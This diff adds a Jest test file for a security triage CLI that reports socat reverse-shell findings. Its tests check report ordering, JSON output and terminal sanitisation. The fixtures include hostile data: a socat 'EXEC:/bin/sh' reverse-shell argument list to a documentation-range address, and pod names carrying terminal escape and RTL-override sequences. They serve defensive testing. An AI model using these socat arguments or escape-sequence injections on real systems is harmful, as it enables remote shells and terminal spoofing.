@@ -1,0 +1,216 @@
+/**
+ * `show` as a person reads it: piped (plain text, no escape sequence at
+ * all) and on a pseudo-terminal (colour, and still nothing but our own SGR
+ * codes), by finding name (read from the enrichment finding) and by file.
+ * Attacker-controlled text carrying escape sequences must not reach either.
+ */
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { handleDelivery } from '../../lib/handler.js';
+import { enrichmentFindingName } from '../../lib/scc/names.js';
+import { createInstance } from '../../lib/wiring.js';
+import { notificationFixture, pubsubBody } from '../support/fixtures.js';
+import { OWN_SOURCE } from '../support/scc-scenario.js';
+import { seedAdmin, seedAttack, startWorld, type Scenario, type World } from '../support/world.js';
+import { baseEnv, exit, HAS_SCRIPT, runCli, runUnderPty, seedSocat, withoutSgr } from './support.js';
+
+let world: World;
+let attack: Scenario;
+let admin: Scenario;
+let env: Record<string, string>;
+const dir = mkdtempSync(join(tmpdir(), 'cli-show-'));
+const ESC = '\u001b';
+
+// Escape sequences an attacker can put into a pod name or socat's arguments: a title change, a screen clear, a colour, a bell, RTL override.
+const HOSTILE_POD = `evil${ESC}]0;pwned${'\u0007'}-pod`;
+const HOSTILE_ARG = `EXEC:/bin/sh${ESC}[2J${ESC}[31m\u202egnp.exe`;
+
+function makeHostile(finding: Record<string, any>): void {
+  finding.sourceProperties.Pod_Name = HOSTILE_POD;
+  finding.sourceProperties.Container_Name = `c${ESC}[8m`;
+  finding.processes[1].args = ['socat', `TCP:203.0.113.9:443${ESC}[1A`, HOSTILE_ARG];
+}
+
+function hostileNotification(name: string | null, eventTime: Date): Record<string, any> {
+  const n = structuredClone(notificationFixture('socat-v2'));
+  if (name) n.finding.name = name;
+  n.finding.eventTime = eventTime.toISOString();
+  makeHostile(n.finding);
+  return n;
+}
+
+async function triageInProcess(notification: Record<string, any>): Promise<void> {
+  const instance = createInstance(world.env, { logDestination: { write: () => {} } });
+  const result = await handleDelivery(pubsubBody(notification), instance);
+  expect(result.outcome).toBe('triaged');
+}
+
+beforeAll(async () => {
+  world = await startWorld();
+  const now = Date.now();
+  attack = seedAttack(world, new Date(now - 120_000));
+  admin = seedAdmin(world, new Date(now - 60_000));
+  env = baseEnv(world.env);
+});
+afterAll(async () => {
+  await world.stop();
+});
+
+function sectionOrder(text: string, headings: string[]): number[] {
+  return headings.map((h) => text.indexOf(`\n${h}\n`));
+}
+
+describe('show FINDING_NAME before the finding was triaged', () => {
+  it('analyzes the finding offline and says so', async () => {
+    const r = await runCli(['show', admin.findingName], { env });
+    expect(r.stderr).toBe('');
+    expect(exit(r)).toMatchObject({ code: 0 });
+    expect(r.stdout).toMatch(/note: no enrichment finding: not triaged yet, so this is an offline analysis/);
+    expect(r.stdout).toContain('reverse shell connecting out to tcp 10.128.0.15:9001');
+    expect(r.stdout).not.toContain(ESC);
+  });
+});
+
+describe('show FINDING_NAME of a triaged finding', () => {
+  beforeAll(async () => {
+    await triageInProcess(attack.notification);
+  });
+
+  it('renders the enrichment finding: verdict first, then C2, attribution, related findings, gaps, runbook', async () => {
+    const r = await runCli(['show', attack.findingName], { env });
+    expect(r.stderr).toBe('');
+    expect(exit(r)).toMatchObject({ code: 0 });
+    expect(r.stdout).not.toMatch(/offline analysis/);
+    const order = sectionOrder(r.stdout, ['Verdict', 'C2', 'Attribution', 'Related findings']);
+    expect(order.every((i) => i > 0)).toBe(true);
+    expect([...order].sort((a, b) => a - b)).toEqual(order);
+    expect(r.stdout).toMatch(/\nVerdict\n  LIKELY MALICIOUS  score \d+\n/);
+    expect(r.stdout).toContain('reverse shell connecting out to tcp 203.0.113.77:4444 running /bin/bash with a pty');
+    // Gathered context only the function could know: the related finding and the privileged pod.
+    expect(r.stdout).toContain('Execution: Added Binary Executed');
+    expect(r.stdout).toContain('privileged container checkout');
+    expect(r.stdout).toContain('$ gcloud container clusters get-credentials shop-prod --region us-central1 --project shop-prod-4711');
+    expect(r.stdout).not.toContain(ESC);
+  });
+
+  it('shows the same report when given the enrichment finding itself', async () => {
+    const viaOriginal = await runCli(['show', attack.findingName, '--json'], { env });
+    const viaEnrichment = await runCli(['show', enrichmentFindingName(OWN_SOURCE, attack.findingName), '--json'], { env });
+    expect(exit(viaEnrichment)).toMatchObject({ code: 0 });
+    const a = JSON.parse(viaOriginal.stdout);
+    const b = JSON.parse(viaEnrichment.stdout);
+    expect(a).toMatchObject({ viewVersion: 1, source: 'enrichment_finding', verdict: { level: 'likely_malicious' }, c2: { host: '203.0.113.77', port: 4444 } });
+    expect(b.verdict).toEqual(a.verdict);
+    expect(b.related).toEqual(a.related);
+    expect(a.related.sameContainer).toHaveLength(1);
+  });
+
+  (HAS_SCRIPT ? it : it.skip)('colours the verdict on a terminal, and emits no escape sequence but its own colour codes', async () => {
+    const r = await runUnderPty(['show', attack.findingName], env, dir);
+    expect(exit(r)).toMatchObject({ code: 0 });
+    expect(r.output).toContain(`${ESC}[31m`);
+    expect(r.output).toContain(`${ESC}[1m`);
+    expect(withoutSgr(r.output)).not.toContain(ESC);
+    expect(withoutSgr(r.output)).toContain('LIKELY MALICIOUS');
+  });
+
+  (HAS_SCRIPT ? it : it.skip)('honours NO_COLOR and --no-color on a terminal', async () => {
+    const noColor = await runUnderPty(['show', attack.findingName], { ...env, NO_COLOR: '1' }, dir);
+    const flag = await runUnderPty(['show', attack.findingName, '--no-color'], env, dir);
+    for (const r of [noColor, flag]) {
+      expect(exit(r)).toMatchObject({ code: 0 });
+      expect(r.output).toContain('LIKELY MALICIOUS');
+      expect(r.output).not.toContain(ESC);
+    }
+  });
+
+  it('exits 2 naming a finding that does not exist', async () => {
+    const r = await runCli(['show', 'organizations/123456789012/sources/9876543210123456789/findings/ffffffffffffffffffffffffffffffff'], { env });
+    expect(exit(r)).toMatchObject({ code: 2 });
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toMatch(/^scc-socat-triage: finding .*ffff not found/);
+    expect(r.stderr.trim().split('\n')).toHaveLength(1);
+  });
+});
+
+describe('attacker-controlled text', () => {
+  it('never reaches the terminal raw, piped or from the enrichment finding', async () => {
+    const eventTime = new Date(Date.now() - 30_000);
+    const name = seedSocat(world, { id: 'e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5', eventTime, edit: makeHostile });
+    const file = join(dir, 'hostile.json');
+    writeFileSync(file, JSON.stringify(hostileNotification(name, eventTime)));
+    const offline = await runCli(['show', file], { env });
+    await triageInProcess(hostileNotification(name, eventTime));
+    const stored = await runCli(['show', name], { env });
+    expect(stored.stdout).not.toMatch(/offline analysis/);
+    for (const r of [offline, stored]) {
+      expect(exit(r)).toMatchObject({ code: 0 });
+      expect(r.stdout).toContain('evil');
+      for (const bad of [ESC, '\u0007', '\u202e', '\u009b']) expect(r.stdout).not.toContain(bad);
+    }
+  });
+
+  (HAS_SCRIPT ? it : it.skip)('leaves only our own colour codes on a terminal', async () => {
+    const file = join(dir, 'hostile-pty.json');
+    writeFileSync(file, JSON.stringify(hostileNotification(null, new Date(Date.now() - 30_000))));
+    const r = await runUnderPty(['show', file], env, dir);
+    expect(exit(r)).toMatchObject({ code: 0 });
+    expect(r.output).toContain('evil');
+    expect(withoutSgr(r.output)).not.toContain(ESC);
+    expect(r.output).not.toContain('\u0007');
+    expect(r.output).not.toContain('\u202e');
+  });
+});
+
+describe('show FILE', () => {
+  it('renders a report with a verdict and a runbook, verdict first and runbook commands exact', async () => {
+    const report = JSON.parse((await runCli(['triage', attack.findingName, '--dry-run', '--json'], { env })).stdout).report;
+    report.verdict = { level: 'suspicious', score: 42, reasons: [{ signal: 'public_c2', weight: 30, detail: 'connects to a public address' }, { signal: 'x', weight: 12, detail: 'second reason' }], unavailable: [] };
+    report.runbook = { steps: [{ id: 'isolate', title: 'Isolate the pod', command: "kubectl label pod --namespace=shop checkout-7d9fb6c5d4-x2lqp quarantine=true", note: 'labels it for the deny-all policy', disruptive: true }] };
+    const file = join(dir, 'report.json');
+    writeFileSync(file, JSON.stringify(report));
+    const r = await runCli(['show', file], { env });
+    expect(exit(r)).toMatchObject({ code: 0 });
+    const order = sectionOrder(r.stdout, ['Verdict', 'C2', 'Attribution', 'Related findings', 'Runbook']);
+    expect(order.every((i) => i > 0)).toBe(true);
+    expect([...order].sort((a, b) => a - b)).toEqual(order);
+    expect(r.stdout).toMatch(/\nVerdict\n  SUSPICIOUS  score 42\n  \+30 connects to a public address\n  \+12 second reason\n/);
+    expect(r.stdout).toContain('1. Isolate the pod [changes the cluster]');
+    expect(r.stdout).toContain('$ kubectl label pod --namespace=shop checkout-7d9fb6c5d4-x2lqp quarantine=true');
+  });
+
+  it('renders a report without verdict or runbook gracefully', async () => {
+    const report = JSON.parse((await runCli(['analyze', '-'], { env, input: JSON.stringify(attack.notification) })).stdout);
+    delete report.verdict;
+    delete report.runbook;
+    const file = join(dir, 'bare-report.json');
+    writeFileSync(file, JSON.stringify(report));
+    const r = await runCli(['show', file], { env });
+    expect(r.stderr).toBe('');
+    expect(exit(r)).toMatchObject({ code: 0 });
+    expect(r.stdout).toContain('\nVerdict\n  no verdict in this report\n');
+    expect(r.stdout).not.toContain('\nRunbook\n');
+    // Without a runbook the Step 5 commands are listed on their own.
+    expect(r.stdout).toContain('\nCommands\n');
+  });
+
+  it('reads the result of triage --json, and prints the view as JSON with --json', async () => {
+    const triaged = await runCli(['triage', attack.findingName, '--dry-run', '--json'], { env });
+    const file = join(dir, 'triage-result.json');
+    writeFileSync(file, triaged.stdout);
+    const r = await runCli(['show', file, '--json'], { env });
+    expect(exit(r)).toMatchObject({ code: 0 });
+    expect(JSON.parse(r.stdout)).toMatchObject({ source: 'report', status: 'triaged', c2: { role: 'reverse', host: '203.0.113.77' }, finding: { name: attack.findingName } });
+  });
+
+  it('exits 2 with one line for a file that is not JSON', async () => {
+    const file = join(dir, 'garbage.json');
+    writeFileSync(file, 'not json');
+    const r = await runCli(['show', file], { env });
+    expect(exit(r)).toMatchObject({ code: 2 });
+    expect(r.stderr).toMatch(/input is not valid JSON/);
+    expect(r.stderr.trim().split('\n')).toHaveLength(1);
+  });
+});
